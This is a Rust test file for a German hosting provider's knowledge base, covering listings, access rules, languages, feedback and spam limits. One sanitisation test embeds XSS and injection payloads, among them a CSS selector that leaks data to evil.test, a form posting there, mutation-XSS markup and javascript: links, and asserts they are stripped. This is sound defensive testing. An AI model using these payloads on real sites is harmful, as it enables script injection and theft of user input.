use crate::{app, file, full, import};
use std::time::Duration;

#[tokio::test(flavor = "multi_thread")]
async fn kb_1_the_overview_shows_all_folders_with_their_articles() {
    let t = full().await;
    let page = t.guest().get("/wissen").await.expect(200);
    for word in [
        "Wissensdatenbank",
        "Erste Schritte",
        "Webhosting",
        "E-Mail",
        "Rechnung und Zahlung",
    ] {
        assert!(page.says(word), "{word}");
    }
    assert!(page.says("Abwesenheitsnotiz anlegen"));
    assert!(
        page.says("Alle 7 Artikel zu „Webhosting“"),
        "{}",
        page.text()
    );
    assert!(
        !page.says("Notfallplan") && !page.says("Cronjobs"),
        "internal and drafts stay inside"
    );
    assert!(
        !page.says("Alle Daten herunterladen"),
        "that is for customers"
    );
    assert!(
        t.anna()
            .await
            .get("/wissen")
            .await
            .says("Alle Daten herunterladen")
    );
    assert!(page.queries <= 4, "{} statements", page.queries);
    // from then on nothing but the revision is asked
    assert_eq!(t.guest().get("/wissen").await.queries, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_1_without_articles_the_overview_says_so() {
    let t = app().await;
    let page = t.guest().get("/wissen").await.expect(200);
    assert!(page.says("Hier stehen noch keine Artikel."));
    assert!(page.says("Zurzeit gibt es hier keine Handbücher."));
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_3_all_articles_page_by_page_and_those_of_a_category() {
    let t = full().await;
    let mut guest = t.guest();
    let first = guest.get("/wissen/alle").await.expect(200);
    let older = first.link("/wissen/alle?nach=");
    let second = guest.get(&older).await.expect(200);
    let articles = |page: &testkit::Answer| page.links("/wissen/artikel/");
    let (one, two) = (articles(&first), articles(&second));
    assert_eq!(one.len(), 25);
    assert_eq!(two.len(), 4, "{two:?}");
    assert!(one.iter().all(|link| !two.contains(link)));
    let page = guest.get("/wissen/kategorie/wordpress").await.expect(200);
    assert!(page.says("WordPress ist langsam") && page.says("PHP-Version wechseln"));
    assert!(!page.says("Postfach ist voll"));
    let page = guest.get("/wissen/ordner/e-mail").await.expect(200);
    assert!(page.says("Postfach ist voll") && !page.says("WordPress ist langsam"));
    guest
        .get("/wissen/kategorie/gibt-es-nicht")
        .await
        .expect(404);
    guest.get("/wissen/ordner/gibt-es-nicht").await.expect(404);
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_3_an_article_has_contents_related_ones_and_a_page_for_paper() {
    let t = full().await;
    let mut guest = t.guest();
    let page = guest
        .get("/wissen/artikel/fehler-500-502-503")
        .await
        .expect(200);
    assert!(
        page.says("Auf dieser Seite")
            && page
                .html
                .contains("href=\"#abschnitt-was-die-nummern-bedeuten\"")
    );
    assert!(
        page.html
            .contains("<h2 id=\"abschnitt-was-die-nummern-bedeuten\">")
    );
    assert!(
        page.says("Verwandte Artikel") && page.says("Mails werden als Spam abgewiesen"),
        "shares a category"
    );
    assert!(page.queries <= 6, "{} statements", page.queries);
    assert_eq!(
        guest
            .get("/wissen/artikel/fehler-500-502-503")
            .await
            .queries,
        3
    );
    let paper = guest
        .get("/wissen/artikel/fehler-500-502-503/drucken")
        .await
        .expect(200);
    assert!(
        paper.says("Fehler 500, 502 und 503 verstehen")
            && !paper.says("War dieser Artikel hilfreich")
    );
    guest.get("/wissen/artikel/gibt-es-nicht").await.expect(404);
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_5_who_may_not_read_an_article_does_not_see_it() {
    let t = full().await;
    let mut guest = t.guest();
    for hidden in ["notfallplan", "cronjobs"] {
        for ending in ["", "/drucken"] {
            let path = format!("/wissen/artikel/{hidden}{ending}");
            guest.get(&path).await.expect(404);
            t.anna().await.get(&path).await.expect(404);
        }
    }
    let customers = "/wissen/artikel/daten-herunterladen";
    let answer = guest.get(customers).await.expect(303);
    assert!(
        answer.location().starts_with("/anmelden"),
        "signing in helps"
    );
    t.anna().await.get(customers).await.expect(200);
    for words in ["Rufbereitschaft", "Eskalation", "Datenkopie"] {
        let page = guest.get(&format!("/wissen/suche?suche={words}")).await;
        for hidden in ["notfallplan", "daten-herunterladen"] {
            assert!(!page.html.contains(hidden), "{words}: {}", page.text());
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_5_an_article_appears_on_its_day() {
    let t = app().await;
    // the clock of the tests stands at 2 November 2026, 10:00 in Berlin
    let later = file(
        "neues/spaeter.de.md",
        "title: Weihnachtsaktion\npublished: 2026-11-02T10:00:00Z",
        "Text",
    );
    import(&t, &[later]).await;
    let mut guest = t.guest();
    guest.get("/wissen/artikel/spaeter").await.expect(404);
    assert!(
        guest
            .get("/wissen/suche?suche=Weihnachtsaktion")
            .await
            .says("Kein Artikel")
    );
    t.wait(Duration::from_secs(3_601));
    guest.get("/wissen/artikel/spaeter").await.expect(200);
    assert!(guest.get("/wissen").await.says("Weihnachtsaktion"));
    assert!(
        guest
            .get("/wissen/suche?suche=Weihnachtsaktion")
            .await
            .says("Ein Artikel")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_5_languages_are_variants_of_one_article() {
    let t = full().await;
    let mut guest = t.guest();
    guest.headers.push(("accept-language".into(), "en".into()));
    let page = guest.get("/wissen/artikel/zwei-faktor").await.expect(200);
    assert!(
        page.says("Set up two-factor sign-in") && !page.says("Einrichten"),
        "{}",
        page.text()
    );
    let page = guest.get("/wissen/artikel/postfach-voll").await.expect(200);
    assert!(page.says("This article is not available in English yet"));
    assert!(page.html.contains("<article lang=\"de\">"));
    let found = guest
        .get("/wissen/suche?suche=two-factor")
        .await
        .expect(200);
    assert!(found.says("Set up two-factor sign-in"));
    assert_eq!(
        found.links("/wissen/artikel/zwei-faktor").len(),
        1,
        "once for both languages"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_5_what_is_only_in_the_other_language_says_so_in_every_list() {
    let t = full().await;
    let mut guest = t.guest();
    guest.headers.push(("accept-language".into(), "en".into()));
    let link =
        |slug: &str| format!("<a href=\"/wissen/artikel/{slug}\" lang=\"de\" hreflang=\"de\">");
    // said in the page's language, so outside of what is marked as German
    let badge = "</a> <span class=\"badge\">German</span>";
    for list in [
        "/wissen",
        "/wissen/alle",
        "/wissen/ordner/e-mail",
        "/wissen/suche?suche=Postfach",
    ] {
        let page = guest.get(list).await.expect(200);
        let linked = page.html.split("<a href=\"/wissen/artikel/").skip(1);
        let (mut german, mut english) = (0, 0);
        for article in linked {
            let (tag, rest) = article.split_once('>').unwrap();
            let (_, rest) = rest.split_once("</a>").unwrap();
            let marked = format!("</a>{rest}").starts_with(badge);
            assert_eq!(tag.contains("hreflang=\"de\""), marked, "{list}: {article}");
            *(if marked { &mut german } else { &mut english }) += 1;
        }
        assert!(german > 0, "{list}");
        assert!(english > 0 || list != "/wissen", "{list}");
    }
    let page = guest.get("/wissen/ordner/e-mail").await.expect(200);
    assert!(page.html.contains(&link("postfach-voll")));
    let offered = guest
        .fill("/wissen/vorschlaege", &[("subject", "Postfach voll")])
        .await
        .expect(200);
    assert!(
        offered.html.contains("lang=\"de\" hreflang=\"de\"><b>") && offered.html.contains(badge)
    );
    // where both languages are there nothing is said
    let german = t.guest().get("/wissen").await.expect(200);
    assert!(!german.html.contains("<span class=\"badge\">Englisch"));
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_4_a_reader_says_whether_it_helped() {
    let t = full().await;
    let path = "/wissen/artikel/postfach-voll";
    let mut guest = t.guest();
    let page = guest.get(path).await.expect(200);
    for word in [
        "War dieser Artikel hilfreich?",
        "Ja",
        "Nein",
        "Informationen unklar oder unvollständig",
        "Informationen fehlerhaft",
        "Artikel behandelt nicht mein Problem",
        "Artikel zu lang",
        "Kommentar",
        "Feedback senden",
    ] {
        assert!(page.says(word), "{word}");
    }
    let yes = guest.fill(path, &[("helpful", "ja")]).await.leads_to(path);
    let thanks = guest.follow(yes).await;
    assert!(thanks.says("Vielen Dank für das Feedback."));
    let no = [
        ("helpful", "nein"),
        ("wrong", "on"),
        ("comment", "Der Knopf <fehlt>"),
    ];
    let mut anna = t.anna().await;
    let answer = anna.fill(path, &no).await.leads_to(path);
    assert!(anna.follow(answer).await.says("Feedback gesendet."));
    let id = desk_id(&t, "Postfach ist voll").await;
    let seen = t
        .ada()
        .await
        .get(&format!("/desk/wissen/artikel/{id}/feedback"))
        .await
        .expect(200);
    assert!(
        seen.says("1 von 2 Lesern") && seen.says("Informationen fehlerhaft"),
        "{}",
        seen.text()
    );
    assert!(seen.says("Der Knopf <fehlt>"), "shown as text");
    assert!(t.acts(None).await.contains(&"article.rated".to_owned()));
    // without an answer nothing is taken, and what was written is kept
    let missing = guest.fill(path, &[("comment", "nur so")]).await.expect(422);
    assert!(missing.says("nur so"));
    assert_eq!(
        guest
            .get("/wissen/artikel/postfach-voll/feedback")
            .await
            .location(),
        path
    );
}

async fn desk_id(t: &testkit::TestApp, title: &str) -> String {
    let words = title.replace(' ', "+");
    let list = t
        .ada()
        .await
        .get(&format!("/desk/wissen?suche={words}"))
        .await
        .expect(200);
    list.link("/desk/wissen/artikel/")
        .rsplit('/')
        .next()
        .unwrap()
        .to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_4_one_vote_a_reader() {
    let t = full().await;
    let path = "/wissen/artikel/weiterleitung";
    let mut anna = t.anna().await;
    for word in ["ja", "nein", "ja"] {
        anna.fill(path, &[("helpful", word)]).await.expect(303);
    }
    // another browser of the same person
    t.anna()
        .await
        .fill(path, &[("helpful", "ja")])
        .await
        .expect(303);
    let mut guest = t.guest();
    for word in ["ja", "nein"] {
        guest.fill(path, &[("helpful", word)]).await.expect(303);
    }
    let id = desk_id(&t, "E-Mail-Weiterleitung").await;
    let seen = t
        .ada()
        .await
        .get(&format!("/desk/wissen/artikel/{id}/feedback"))
        .await;
    assert!(seen.says("1 von 2 Lesern"), "{}", seen.text());
}

#[tokio::test(flavor = "multi_thread")]
async fn abuse_feedback_spam() {
    let t = full().await;
    let path = "/wissen/artikel/weiterleitung";
    let mut taken = 0;
    for _ in 0..40 {
        // a fresh browser each time: cookies are thrown away
        let answer = t
            .guest()
            .fill(path, &[("helpful", "nein"), ("comment", "Spam")])
            .await;
        match answer.status.as_u16() {
            303 => taken += 1,
            429 => {}
            other => panic!("{other}"),
        }
    }
    assert_eq!(taken, 20, "a network has so many an hour");
    t.wait(Duration::from_secs(3_601));
    t.guest().fill(path, &[("helpful", "ja")]).await.expect(303);
}

#[tokio::test(flavor = "multi_thread")]
async fn kb_6_manuals_stand_on_the_overview_and_beside_results() {
    let t = full().await;
    let mut ada = t.ada().await;
    let fill = [
        ("title_de", "Cloud-Server Schäre"),
        ("title_en", "Cloud server Schäre"),
        ("link", "https://nordlicht.example/schaere.pdf"),
        ("note_de", "PDF, 84 Seiten"),
    ];
    ada.fill("/desk/wissen/handbuecher/neu", &fill)
        .await
        .leads_to("/desk/wissen/handbuecher");
    for link in [
        "javascript:alert(1)",
        "//evil.test",
        "data:x",
        "handbuch.pdf",
        "https://",
    ] {
        let bad = [("title_de", "x"), ("link", link)];
        ada.fill("/desk/wissen/handbuecher/neu", &bad)
            .await
            .expect(422);
    }
    for path in [
        "/wissen",
        "/wissen/suche?suche=Postfach",
        "/wissen/suche?suche=xyzzy",
    ] {
        let page = t.guest().get(path).await.expect(200);
        assert!(
            page.says("Handbücher")
                && page.says("Cloud-Server Schäre")
                && page.says("PDF, 84 Seiten"),
            "{path}"
        );
        assert_eq!(
            page.link("https://nordlicht"),
            "https://nordlicht.example/schaere.pdf"
        );
    }
    let one = ada
        .get("/desk/wissen/handbuecher")
        .await
        .links("/desk/wissen/handbuecher/");
    let one = one
        .iter()
        .find(|link| !link.ends_with("neu"))
        .unwrap()
        .clone();
    ada.fill(&one, &[("title_de", "Server Schäre")])
        .await
        .expect(303);
    assert!(t.guest().get("/wissen").await.says("Server Schäre"));
    ada.press(&one, &format!("{one}/loeschen"))
        .await
        .expect(303);
    assert!(!t.guest().get("/wissen").await.says("Server Schäre"));
}

#[tokio::test(flavor = "multi_thread")]
async fn lesson_35_36_a_hit_stands_once_and_in_the_readers_language() {
    let t = full().await;
    // the word of the other language, with a slip: the German article is what the link leads to
    let page = t
        .guest()
        .get("/wissen/suche?suche=Pasword")
        .await
        .expect(200);
    assert!(page.says("Passwort vergessen"), "{}", page.text());
    assert!(!page.says("Forgot or change"), "{}", page.text());
    let links = page.links("/wissen/artikel/passwort-vergessen");
    assert_eq!(links.len(), 1, "translations are one article");
    let list = t.guest().get("/wissen/alle").await.expect(200);
    assert_eq!(list.links("/wissen/artikel/passwort-vergessen").len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn abuse_79_81_nothing_written_in_an_article_runs_or_styles() {
    let t = app().await;
    let body = "<style>input[value^=a]{background:url(//evil.test/a)}</style>\n\n<base href=//evil.test>\n\n\
                <meta http-equiv=refresh content=0;url=//evil.test>\n\n<svg><script>alert(1)</script></svg>\n\n\
                <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n\n<form action=//evil.test><input name=p>\n\n\
                [hier](javascript:alert(1)) ![Bild](//evil.test/p.png) <img src=x onerror=alert(1)>";
    import(
        &t,
        &[file(
            "e-mail/boese.de.md",
            "title: Ein <b>Titel</b>\nsummary: <style>*{}</style>",
            body,
        )],
    )
    .await;
    let mut guest = t.guest();
    for path in [
        "/wissen/artikel/boese",
        "/wissen/artikel/boese/drucken",
        "/wissen/suche?suche=boese+Titel+hier",
        "/wissen/alle",
    ] {
        let page = guest.get(path).await.expect(200);
        let main = page.html.split_once("<main").unwrap().1;
        for bad in [
            "<style",
            "<base",
            "<meta",
            "<svg><script",
            "<math",
            "<mglyph",
            "<img",
            "<b>Titel",
            "href=\"javascript",
            "src=\"//",
            "<form action=//evil",
            "<input name=p",
        ] {
            assert!(!main.contains(bad), "{path}: {bad} in {main}");
        }
    }
}
